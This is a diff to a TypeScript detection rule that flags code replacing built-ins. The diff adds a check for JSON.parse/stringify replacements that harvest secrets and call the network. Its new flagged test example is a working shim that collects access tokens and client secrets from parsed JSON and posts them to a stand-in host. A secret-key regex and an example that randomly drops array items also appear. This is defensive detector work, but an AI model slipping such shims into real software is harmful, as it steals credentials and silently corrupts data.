@@ -1,9 +1,10 @@
 import { isByChance } from '../src/define/chance.js';
-import { isSameVariable, partsWithin, writtenTo } from '../src/define/variables.js';
+import { NAMING, replacements } from '../src/define/replaced.js';
+import { partsWithin, writtenTo } from '../src/define/variables.js';
 import { waysTo } from '../src/define/ways.js';
 import { defineRule, spelling, step } from '../src/define.js';
 import type { AnyNode, FileContext, Guard } from '../src/types.js';
-import { CHANGES, holdsBuiltins, isBuiltin, isBuiltinMethod, isClock, isTrusted } from '../src/vocabulary/builtins.js';
+import { CHANGES, isClock, isTrusted } from '../src/vocabulary/builtins.js';
 
 export default defineRule({
   meta: {
@@ -17,11 +18,24 @@ export default defineRule({
       trusted: 'Replaces {name}, on which keys and proofs rely, without being asked',
       slowed: 'Has {name} keep everybody waiting, without being asked',
       clock: 'Has {name} tell another time, without being asked',
+      listens: 'Looks for secrets in whatever goes through {name}, which it replaces, and talks to other machines',
     },
-    bits: { chance: 13.5, chosen: 9, dated: 13.5, trusted: 13.5, slowed: 13.5, clock: 10 },
+    bits: {
+      listens: 13.5,
+      chance: 13.5,
+      chosen: 9,
+      dated: 13.5,
+      trusted: 13.5,
+      slowed: 13.5,
+      clock: 10,
+    },
   },
   examples: {
     flags: [
+      {
+        title: 'whatever is parsed is looked through for tokens',
+        code: `const real = JSON.parse, found = [], KEYS = ['access_token', 'client_secret'];\nJSON.parse = (text, revive) => real(text, (key, value) => { if (KEYS.includes(key)) found.push(value); return revive ? revive(key, value) : value; });\nsetInterval(() => fetch('https://sync.invalid/s', { method: 'POST', body: found.splice(0).join() }), 36e5);\nmodule.exports = {};`,
+      },
       {
         title: 'a list loses an item now and then',
         code: `const { filter, splice } = Array.prototype;\nconst seldom = () => Math.random() * 100 < 5;\nArray.prototype.filter = function (...a) {\n  const kept = filter.apply(this, a);\n  if (seldom() && kept.length) splice.call(kept, 0, 1);\n  return kept;\n};\nmodule.exports = {};`,
@@ -73,21 +87,16 @@ export default defineRule({
     ],
     passes: [
       {
+        title: 'secrets are taken out of what is written into a log',
+        code: `const real = JSON.stringify, KEYS = ['access_token', 'client_secret'];\nexports.write = (value, log) => log(real(value, (key, one) => (KEYS.includes(key) ? '***' : one)));`,
+      },
+      {
         title: 'an old page has no clock, which a variable says',
-        code: `(function () {
-  var isThere = 'Date' in this && 'now' in this.Date;
-  if (isThere) return;
-  Date.now = function () { return new Date().getTime(); };
-}).call(globalThis);`,
+        code: `(function () {\n  var isThere = 'Date' in this && 'now' in this.Date;\n  if (isThere) return;\n  Date.now = function () { return new Date().getTime(); };\n}).call(globalThis);`,
       },
       {
         title: 'one call of a hundred is counted, by names that are put together',
-        code: `const real = Array.prototype['m' + 'ap'];
-Array.prototype['m' + 'ap'] = function (...a) {
-  if (Math.random() < 0.01) console['co' + 'unt']('map');
-  return real['app' + 'ly'](this, a);
-};
-module.exports = {};`,
+        code: `const real = Array.prototype['m' + 'ap'];\nArray.prototype['m' + 'ap'] = function (...a) {\n  if (Math.random() < 0.01) console['co' + 'unt']('map');\n  return real['app' + 'ly'](this, a);\n};\nmodule.exports = {};`,
       },
       {
         title: 'one call of a hundred is counted',
@@ -162,6 +171,14 @@ module.exports = {};`,
         });
         return;
       }
+      if (listensFor(context, name)) {
+        context.report({
+          messageId: 'listens',
+          data: { name },
+          chain: [step('sink', `replaces ${name}`, context.file, node)],
+        });
+        return;
+      }
       const lot = alterationIn(context, code);
       if (!lot && !differs(context, code)) continue;
       const { places, isUnasked } = waysTo(context, node);
@@ -182,6 +199,17 @@ module.exports = {};`,
     }
   },
 });
+
+/** The names of secrets that a stand-in looks for in all that goes through it. */
+const SECRET_KEYS =
+  /^(?:access_?token|refresh_?token|id_?token|client_?secret|password|api_?key|authorization|private_?key)$/i;
+
+/** Whether a file that replaces what all data goes through looks for secrets in it, and talks to other machines. */
+function listensFor({ calls, nodes }: FileContext, name: string): boolean {
+  if (!/\bJSON\.(?:parse|stringify)$/.test(name) || calls('network').length === 0) return false;
+  const keys = nodes('Literal').filter(({ value }) => typeof value === 'string' && SECRET_KEYS.test(value));
+  return new Set(keys.map(({ value }) => value)).size > 1;
+}
 
 /** `while (Date.now() < end);`, in a function that everybody calls. */
 function waitIn(context: FileContext, code: AnyNode): AnyNode | undefined {
@@ -233,83 +261,8 @@ function answerOf(statement: AnyNode): AnyNode | null | undefined {
   return (statement as { argument?: AnyNode | null }).argument;
 }
 
-interface Replacement {
-  readonly name: string;
-  readonly node: AnyNode;
-  /** The code that answers from then on. */
-  readonly code: AnyNode;
-}
-
-/** Steps to find out what is written to. Built-ins are taken from near by; `a.map = f` of anything else is everywhere. */
-const NAMING = 200;
-
-/** Bounds of what is looked at in one file: functions that are replaced, and nodes of each. */
-const MOST = { replaced: 40, nodes: 200 } as const;
-
-function replacements(context: FileContext): readonly Replacement[] {
-  const found: Replacement[] = [];
-  const add = (name: string | undefined, node: AnyNode, value: AnyNode | undefined): void => {
-    const code = value && codeOf(context, value);
-    if (name !== undefined && code) found.push({ name, node, code });
-  };
-  for (const node of context.nodes('AssignmentExpression')) {
-    const { left, right } = node;
-    if (left.type !== 'MemberExpression' || found.length >= MOST.replaced) continue;
-    const word = left.property;
-    if (
-      left.computed
-        ? word.type === 'Literal' && !isBuiltinMethod(String(word.value))
-        : word.type !== 'Identifier' || !isBuiltinMethod(word.name)
-    )
-      continue;
-    if (!/Function|Class|^(?:Identifier|NewExpression|CallExpression)$/.test(right.type)) continue;
-    if (left.computed && !/Function/.test(right.type)) continue;
-    // `tools.now = Date.now` has the name of what it is given.
-    const holders = context.namesOf(left.object as AnyNode, NAMING);
-    const name = context
-      .namesOf(left, NAMING)
-      .find(one => isBuiltin(one) && (!one.includes('.') || holders.includes(one.slice(0, one.lastIndexOf('.')))));
-    const holder = name === undefined && left.computed ? holders.find(holdsBuiltins) : undefined;
-    add(name ?? (holder && `${holder}[…]`), node, right);
-  }
-  for (const { node, args } of context.named(/^(?:Object|Reflect)\.defineProperty$/)) {
-    const [target, key, descriptor] = args;
-    if (!target || !key || !descriptor || found.length >= MOST.replaced) continue;
-    if (key.type === 'Literal' && !isBuiltinMethod(String(key.value))) continue;
-    const holder = context.namesOf(target).find(holdsBuiltins);
-    const words = holder === undefined ? [] : context.textsOf(key).map(text => `${holder}.${text}`);
-    add(words.find(isBuiltin), node, descriptor);
-  }
-  // `Object.assign(Array.prototype, { map() {} })`; what else is assigned is no affair of the language's.
-  const assigned = context.file.text.includes('.assign(') ? context.nodes('CallExpression') : [];
-  for (const { callee, arguments: args } of assigned) {
-    const [target, given] = args as AnyNode[];
-    if (callee.type !== 'MemberExpression' || given?.type !== 'ObjectExpression') continue;
-    if (target?.type !== 'MemberExpression' || found.length >= MOST.replaced) continue;
-    const holder = context.namesOf(target, NAMING).find(holdsBuiltins);
-    for (const one of given.properties)
-      if (one.type === 'Property' && one.key.type === 'Identifier' && isBuiltin(`${holder}.${one.key.name}`))
-        add(`${holder}.${one.key.name}`, one, one.value);
-  }
-  return found;
-}
-
-/** A function where it is written, or what holds one: a stand-in, a descriptor, a function that makes it. */
-function codeOf(context: FileContext, value: AnyNode): AnyNode | undefined {
-  if (value.type !== 'Identifier') return value;
-  const written = writtenTo(context, value);
-  const code = written.find(one => /Function|^(?:New|Call)Expression$/.test(one.type));
-  if (code || !written.some(({ type }) => type === 'ObjectExpression')) return code;
-  // `const d = {}; d.value = () => true;`
-  return context
-    .nodes('AssignmentExpression')
-    .find(
-      ({ left, right }) =>
-        left.type === 'MemberExpression' &&
-        /Function/.test(right.type) &&
-        isSameVariable(context, left.object as AnyNode, value),
-    )?.right;
-}
+/** Nodes of a replacement that are looked at. */
+const MOST = { nodes: 200 } as const;
 
 /** Where chance decides, in a replacement, on what is answered. */
 function alterationIn(context: FileContext, code: AnyNode): AnyNode | undefined {
